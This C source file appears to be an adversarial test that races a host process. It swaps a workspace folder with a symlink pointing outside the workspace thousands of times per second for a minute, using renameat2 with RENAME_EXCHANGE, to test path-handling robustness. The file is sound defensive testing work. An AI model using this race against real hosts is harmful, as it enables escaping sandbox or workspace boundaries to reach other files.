/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* A path that is a folder now and a link out of the workspace in a moment, while
 * the host reads, writes, lists, removes and exports through it. */
#include "../malice.h"

#include <linux/fs.h>
#include <sys/stat.h>
#include <time.h>

void
attack_swap_path (void)
{
  char *folder = workspace_path ("race"), *link_out = workspace_path ("race-link"), to[512];
  snprintf (to, sizeof to, "../%s", given ("SIBLING"));
  mkdir (folder, 0755);
  unlink (link_out);
  if (symlink (to, link_out) != 0)
    broken ("%s: %s", link_out, strerror (errno));
  time_t end = time (NULL) + 60;
  while (time (NULL) < end)
    for (int i = 0; i < 1000; i++)
      syscall (SYS_renameat2, AT_FDCWD, folder, AT_FDCWD, link_out, RENAME_EXCHANGE);
}
